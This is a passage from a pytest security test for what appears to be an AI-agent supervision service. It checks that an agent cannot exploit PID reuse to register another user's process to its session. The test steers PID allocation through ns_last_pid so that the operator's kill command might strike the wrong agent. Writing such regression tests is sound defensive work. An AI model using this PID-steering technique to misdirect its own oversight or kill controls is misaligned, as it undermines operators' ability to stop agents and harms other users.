s.sendall(json.dumps({"op": "hook", "flavour": "claude-code", "call": json.loads(call)}).encode()
          + b"\n")
s.shutdown(socket.SHUT_WR)
buf = b""
while chunk := s.recv(65536):
    buf += chunk
print(buf.decode().strip().splitlines()[-1], flush=True)
"""


def _fork_at(victim: subprocess.Popen[str], pid: int) -> int | None:
    """Have ``victim`` fork a child with exactly ``pid`` (root sets ns_last_pid)."""
    assert victim.stdin is not None and victim.stdout is not None
    with open("/proc/sys/kernel/ns_last_pid", "w") as fh:
        fh.write(str(pid - 1))
    victim.stdin.write("fork\n")
    victim.stdin.flush()
    got = int(victim.stdout.readline())
    return got if got == pid else None


def test_a_reused_peer_pid_cannot_register_another_users_process_to_the_agents_session(
    adv: Adv,
) -> None:
    if not os.access("/proc/sys/kernel/ns_last_pid", os.W_OK):
        pytest.skip("cannot steer pid allocation here")
    victim = subprocess.Popen(
        [adv.python, "-c", _VICTIM, "claude", "--dangerously-skip-nothing"], text=True,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, user=OTHER_AGENT_UID,
        group=OTHER_AGENT_UID, extra_groups=[], env=adv.env_for(OTHER_AGENT_UID),
    )  # fmt: skip
    try:
        for attempt in range(8):
            session = f"adv-pid-reuse-{attempt}"
            answer = _reuse_a_pid(adv, victim, session)
            if answer is not None:
                break
        else:
            pytest.skip("the pid was taken by another process first, every time")
        assert answer["action"] == "allow", answer
        registered = adv.rows("SELECT pid FROM sessions WHERE id = ?", (session,))
        killed = adv.overseer(
            OPERATOR_UID, "kill", session, "--grace", "0", "--server", adv.socket
        )  # fmt: skip
        assert killed.returncode == 0, killed.stderr.decode()
        time.sleep(0.5)
        assert victim.poll() is None, (
            f"the operator's kill of the agent's session killed another user's agent: "
            f"{killed.stdout.decode()}"
        )
        assert registered != [(victim.pid,)], "the agent's session names the other user's agent"
    finally:
        victim.kill()
        victim.wait(10)


def _reuse_a_pid(adv: Adv, victim: subprocess.Popen[str], session: str) -> dict[str, Any] | None:
    call = json.dumps(_call(adv, "Bash", {"command": "ls"}, session=session))
    agent = subprocess.Popen(
        [adv.python, "-c", _REUSER, adv.socket, session, call], text=True,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, user=AGENT_UID, group=AGENT_UID,
        extra_groups=[], env=adv.env_for(AGENT_UID), cwd=str(adv.project),
    )  # fmt: skip
    try:
        assert agent.stdin is not None and agent.stdout is not None
        gone = int(agent.stdout.readline())
        if _fork_at(victim, gone) is None:
            return None
        agent.stdin.write("go\n")
        agent.stdin.flush()
        return dict(json.loads(agent.stdout.readline()))
    finally:
        agent.kill()
        agent.wait(10)
